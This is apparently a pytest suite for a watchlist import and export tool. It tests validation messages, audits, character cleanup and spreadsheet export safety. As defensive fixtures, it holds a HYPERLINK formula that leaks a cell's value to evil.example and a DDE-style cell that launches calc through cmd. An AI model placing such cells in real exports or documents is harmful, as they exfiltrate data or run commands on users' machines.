"""Watchlist import and export: validation names the row and field, bad files change nothing, re-import is a no-op."""

from __future__ import annotations

from pathlib import Path

import pytest
from sqlmodel import select
from typer.testing import CliRunner

from alertbot import db
from alertbot.cli import app
from alertbot.models import AuditLog, Enterprise
from alertbot.watchlist import WatchlistError, read_watchlist, write_watchlist

FIXTURES = Path(__file__).parent / "fixtures" / "watchlist"
SAMPLE = Path(__file__).parents[1] / "watchlists" / "liaoning-export-enterprises.csv"
runner = CliRunner()


def _snapshot(settings) -> tuple[list[tuple], int]:
    with db.session_factory(settings)() as session:
        rows = [
            (e.id, e.name_zh, e.name_en, tuple(e.marks), tuple(e.classes), tuple(e.affiliates))
            for e in session.exec(select(Enterprise).order_by(Enterprise.id)).all()
        ]
        audits = len(session.exec(select(AuditLog)).all())
    return rows, audits


def _import(path: Path, *extra: str):
    return runner.invoke(app, ["watchlist", "import", str(path), "--no-retro", "--actor", "tester", *extra])


def test_sample_directory_reads_every_enterprise() -> None:
    rows = read_watchlist(SAMPLE)
    assert len(rows) == 20
    siasun = next(r for r in rows if r.id == "siasun")
    assert siasun.marks == ("新松", "SIASUN")
    assert siasun.classes == (7, 9, 12, 42)
    assert "SIASUN Robot Investment Pte. Ltd." in siasun.affiliates


@pytest.mark.parametrize(
    ("fixture", "expected"),
    [
        ("bad-rows.csv", ["row 3, field id: missing id"]),
        ("bad-rows.csv", ["row 4, field classes: '46'", "row 4, field classes: 'x'"]),
        ("bad-rows.csv", ["row 5, field id: duplicate id 'siasun' (first on row 2)"]),
        ("unknown-column.csv", ["row 1: unknown column(s) website"]),
        ("bad-encoding.csv", ["row 2, field name_zh: not UTF-8 (byte 0xc9)"]),
    ],
)
def test_validation_names_row_and_field(fixture: str, expected: list[str]) -> None:
    with pytest.raises(WatchlistError) as info:
        read_watchlist(FIXTURES / fixture)
    message = str(info.value)
    assert str(FIXTURES / fixture) in message
    for fragment in expected:
        assert fragment in message


@pytest.mark.parametrize("fixture", ["bad-rows.csv", "unknown-column.csv", "bad-encoding.csv"])
def test_import_with_bad_rows_changes_nothing(settings, fixture: str) -> None:
    assert _import(FIXTURES / "good.csv").exit_code == 0
    before = _snapshot(settings)
    result = _import(FIXTURES / fixture)
    assert result.exit_code == 1
    assert "nothing was imported" in result.output
    assert _snapshot(settings) == before


def test_reimport_is_a_noop_and_changes_are_audited(settings, tmp_path: Path) -> None:
    first = _import(FIXTURES / "good.csv")
    assert first.exit_code == 0, first.output
    assert "added 2" in first.output
    rows_before, audits_before = _snapshot(settings)

    again = _import(FIXTURES / "good.csv")
    assert "added 0, updated 0, unchanged 2" in again.output
    assert _snapshot(settings) == (rows_before, audits_before)

    changed = tmp_path / "changed.csv"
    changed.write_text(
        (FIXTURES / "good.csv")
        .read_text(encoding="utf-8")
        .replace("新松|SIASUN,7|9|12|42", "新松|SIASUN|SIASUN ROBOT,7|9"),
        encoding="utf-8",
    )
    dry = _import(changed, "--dry-run")
    assert "would update 1" in dry.output
    assert _snapshot(settings) == (rows_before, audits_before)

    assert _import(changed).exit_code == 0
    with db.session_factory(settings)() as session:
        siasun = session.get(Enterprise, "siasun")
        assert siasun is not None
        assert siasun.marks == ["新松", "SIASUN", "SIASUN ROBOT"]
        assert siasun.classes == [7, 9]
        audit = session.exec(select(AuditLog).where(AuditLog.action == "watchlist.update")).one()
    assert audit.actor == "tester"
    assert audit.entity_id == "siasun"
    assert audit.before == {"marks": ["新松", "SIASUN"], "classes": [7, 9, 12, 42]}
    assert audit.after == {"marks": ["新松", "SIASUN", "SIASUN ROBOT"], "classes": [7, 9]}


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_round_trips(settings, tmp_path: Path, suffix: str) -> None:
    assert _import(SAMPLE).exit_code == 0
    out = tmp_path / f"export{suffix}"
    result = runner.invoke(app, ["watchlist", "export", str(out)])
    assert result.exit_code == 0, result.output
    assert read_watchlist(out) == sorted(read_watchlist(SAMPLE), key=lambda r: r.id)


def test_xlsx_import_validates_like_csv(tmp_path: Path) -> None:
    rows = read_watchlist(FIXTURES / "good.csv")
    path = tmp_path / "wl.xlsx"
    write_watchlist(rows, path)
    assert read_watchlist(path) == rows


# -- issue 8: inert content and hostile cells ----------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Open details")'


def _sheet_xml(path: Path) -> str:
    import zipfile

    with zipfile.ZipFile(path) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode("utf-8")


def _hostile_rows() -> list:
    from alertbot.watchlist import WatchlistRow

    return [
        WatchlistRow(
            id="squat",
            name_zh=FORMULA,
            name_en="@SUM(1+1)*cmd|' /C calc'!A0",
            marks=("-2+3", "'quoted", "''twice", "#N/A"),
            contact=("+86 24 1234 5678", "'=already quoted"),
        )
    ]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_formula_like_text_round_trips_losslessly(tmp_path: Path, suffix: str) -> None:
    rows = _hostile_rows()
    path = tmp_path / f"export{suffix}"
    write_watchlist(rows, path)
    assert read_watchlist(path) == rows


def test_xlsx_export_writes_text_cells_never_formulas(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    path = tmp_path / "export.xlsx"
    write_watchlist(_hostile_rows(), path)
    xml = _sheet_xml(path)
    assert "<f>" not in xml
    assert "<f " not in xml
    assert 't="e"' not in xml
    sheet = load_workbook(path).worksheets[0]  # not data_only: a formula would come back as one
    name = sheet.cell(row=2, column=2)
    assert (name.value, name.data_type) == (FORMULA, "s")
    assert name.quotePrefix is True
    assert all(c.data_type == "s" for c in sheet[2] if c.value is not None)


def test_csv_export_neutralises_formula_characters(tmp_path: Path) -> None:
    import csv

    path = tmp_path / "export.csv"
    write_watchlist(_hostile_rows(), path)
    with path.open(encoding="utf-8", newline="") as handle:
        [_header, row] = list(csv.reader(handle))
    assert row[1] == "'" + FORMULA
    assert row[2].startswith("'@")
    assert row[3].split("|")[0] == "'-2+3"
    assert not any(field.startswith(("=", "+", "-", "@")) for field in row)


def test_watchlist_export_cli_to_xlsx_keeps_a_formula_name_as_text(settings, tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    write_watchlist(_hostile_rows(), source)
    assert _import(source).exit_code == 0
    out = tmp_path / "out.xlsx"
    result = runner.invoke(app, ["watchlist", "export", str(out)])
    assert result.exit_code == 0, result.output
    assert "<f>" not in _sheet_xml(out)
    assert _import(out).exit_code == 0
    with db.session_factory(settings)() as session:
        entry = session.get(Enterprise, "squat")
        assert entry is not None
        assert entry.name_zh == FORMULA


HEADER = "id,name_zh,name_en,marks,classes,affiliates,markets,contact\n"


def _csv(tmp_path: Path, body: str, name: str = "wl.csv") -> Path:
    path = tmp_path / name
    path.write_text(HEADER + body, encoding="utf-8")
    return path


def _problems(path: Path) -> str:
    with pytest.raises(WatchlistError) as info:
        read_watchlist(path)
    return str(info.value)


def test_line_breaks_and_vertical_tabs_are_normalised_and_named(tmp_path: Path) -> None:
    from alertbot.watchlist import read_watchlist_with_notices

    path = _csv(tmp_path, 'acme,艾克米,"ACME\nMachinery",ACME\x0bPRO,7,,US,\n')
    rows, notices = read_watchlist_with_notices(path)
    assert rows[0].name_en == "ACME Machinery"
    assert rows[0].marks == ("ACME PRO",)
    assert "row 2, field name_en: line break (U+000A) replaced by a space" in notices
    assert "row 2, field marks: vertical tab (U+000B) replaced by a space" in notices


def test_other_control_characters_and_nul_are_refused_with_row_and_field(tmp_path: Path) -> None:
    message = _problems(
        _csv(tmp_path, "acme,艾克米,ACME\x00Ltd,ACME,7,,US,\nbeta,贝塔,Beta\x1b[31m,BETA,7,,US,\n")
    )
    assert "row 2, field name_en: control character U+0000 is not allowed" in message
    assert "row 3, field name_en: control character U+001B is not allowed" in message


def test_hidden_characters_are_removed_and_named(tmp_path: Path) -> None:
    from alertbot.watchlist import read_watchlist_with_notices

    rows, notices = read_watchlist_with_notices(
        _csv(tmp_path, "acme,艾克米,\u202eemca\u202c,AC\u200bME,7,,US,\n")
    )
    assert (rows[0].name_en, rows[0].marks) == ("emca", ("ACME",))
    assert "row 2, field name_en: hidden character(s) U+202E, U+202C removed" in notices
    assert "row 2, field marks: hidden character(s) U+200B removed" in notices


def test_ids_that_differ_only_in_case_or_hidden_characters_are_one_enterprise(tmp_path: Path) -> None:
    message = _problems(
        _csv(tmp_path, "ACME,甲,A,ACME,7,,US,\nacme,乙,B,ACME,7,,US,\nacme\u200b,丙,C,ACME,7,,US,\n")
    )
    assert "row 3, field id: duplicate id 'acme' (first on row 2 as 'ACME'" in message
    assert "row 4, field id: duplicate id 'acme' (first on row 2 as 'ACME'" in message


def test_an_import_updates_the_entry_whose_id_differs_only_in_case(settings, tmp_path: Path) -> None:
    assert _import(_csv(tmp_path, "ACME,甲,A,ACME,7,,US,\n", "first.csv")).exit_code == 0
    result = _import(_csv(tmp_path, "acme\u200b,甲,A Renamed,ACME,7,,US,\n", "second.csv"))
    assert result.exit_code == 0, result.output
    rows, _audits = _snapshot(settings)
    assert [(r[0], r[2]) for r in rows] == [("ACME", "A Renamed")]


def test_markets_must_be_iso_codes_and_a_country_name_gets_a_hint(tmp_path: Path) -> None:
    message = _problems(_csv(tmp_path, "acme,艾克米,ACME,ACME,7,,中国|USA|us,\n"))
    assert "row 2, field markets: '中国' is not a two-letter ISO country code; write CN" in message
    assert "row 2, field markets: 'USA' is not a two-letter ISO country code; write US" in message
    assert "'us'" not in message  # lower case is fine, stored upper case


def test_an_oversized_cell_is_refused_naming_row_and_field(tmp_path: Path) -> None:
    message = _problems(_csv(tmp_path, f"acme,艾克米,{'A' * 5000},ACME,7,,US,\n"))
    assert "row 2, field name_en: 5000 characters; at most 1000 allowed" in message


def test_a_50_mb_cell_is_a_clear_error_without_the_memory_of_a_traceback(tmp_path: Path) -> None:
    import tracemalloc

    path = tmp_path / "huge.csv"
    with path.open("w", encoding="utf-8") as handle:
        handle.write(HEADER + "acme,艾克米,ACME,ACME,7,,US,\nbig,大,")
        handle.write("B" * 50_000_000)
        handle.write(",BIG,7,,US,\n")
    tracemalloc.start()
    try:
        message = _problems(path)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert "row 3, field name_en: 50000000 characters; at most 1000 allowed" in message
    # The cell is never held in memory: the file is scanned in 1 MiB chunks (measured: ~3 MB peak).
    assert peak < 25_000_000, f"peak {peak / 1e6:.0f} MB for a 50 MB file"


def test_a_nul_in_a_cell_is_a_clear_error_on_postgres_too(pg_settings, tmp_path: Path) -> None:
    result = _import(_csv(tmp_path, "acme,艾克米\x00,ACME,ACME,7,,US,\n"))
    assert result.exit_code == 1
    assert "row 2, field name_zh: control character U+0000 is not allowed" in result.output
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)


def test_xlsx_cells_are_checked_the_same_way_and_export_never_crashes(settings, tmp_path: Path) -> None:
    from openpyxl import Workbook

    from alertbot.watchlist import WatchlistRow

    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(HEADER.strip().split(","))
    sheet.append(["acme", "艾克米", "ACME\nMachinery", "ACME", "7", "", "US", ""])
    sheet.append(["beta", "贝塔", "B" * 2000, "BETA", "7", "", "中国", ""])
    path = tmp_path / "wl.xlsx"
    workbook.save(path)
    message = _problems(path)
    assert "row 3, field name_en: 2000 characters; at most 1000 allowed" in message
    assert "row 3, field markets: '中国' is not a two-letter ISO country code; write CN" in message
    # An entry stored before these checks, with a vertical tab, still exports.
    out = tmp_path / "out.xlsx"
    write_watchlist([WatchlistRow(id="old", name_en="Old\x0bName", marks=("OLD",))], out)
    assert out.stat().st_size > 0


def test_cli_import_names_what_it_normalised(settings, tmp_path: Path) -> None:
    result = _import(_csv(tmp_path, 'acme,艾克米,"ACME\r\nMachinery",AC\u200bME,7,,US,\n'))
    assert result.exit_code == 0, result.output
    assert "row 2, field name_en: carriage return (U+000D) replaced by a space" in result.output
    assert "row 2, field marks: hidden character(s) U+200B removed" in result.output
    rows, _audits = _snapshot(settings)
    assert rows[0][2:4] == ("ACME Machinery", ("ACME",))


def test_migration_0002_cleans_entries_imported_before_the_checks(any_settings) -> None:
    import sqlalchemy as sa

    url = any_settings.resolved_database_url()
    db.upgrade(url, "0001")
    engine = sa.create_engine(url)
    try:
        with engine.begin() as conn:
            conn.execute(
                sa.text(
                    "INSERT INTO enterprise (id, name_zh, name_en, marks, classes, affiliates, markets, contacts,"
                    " active) VALUES (:id, :zh, :en, :marks, '[7]', '[]', '[]', :contacts, :active)"
                ),
                [
                    {
                        "id": "acme",
                        "zh": "艾克米",
                        "en": "ACME\nMachinery\x0bLtd",
                        "active": True,
                        "marks": '["AC\\u200bME", "\\u202eEMCA"]',
                        "contacts": '["ip@acme.example\\n"]',
                    },
                    {
                        "id": "clean",
                        "zh": "干净",
                        "en": "Clean Co",
                        "marks": '["CLEAN"]',
                        "contacts": "[]",
                        "active": True,
                    },
                ],
            )
    finally:
        engine.dispose()
    db.upgrade(url, "0002")
    with db.session_factory(any_settings)() as session:
        acme = session.exec(
            select(Enterprise.name_en, Enterprise.marks, Enterprise.contacts).where(Enterprise.id == "acme")
        ).one()
        clean = session.exec(select(Enterprise.name_en).where(Enterprise.id == "clean")).one()
        audits = session.exec(select(AuditLog.entity_id, AuditLog.actor)).all()
    assert tuple(acme) == ("ACME Machinery Ltd", ["ACME", "EMCA"], ["ip@acme.example"])
    assert clean == "Clean Co"
    assert [tuple(a) for a in audits] == [("acme", "migration:0002")]
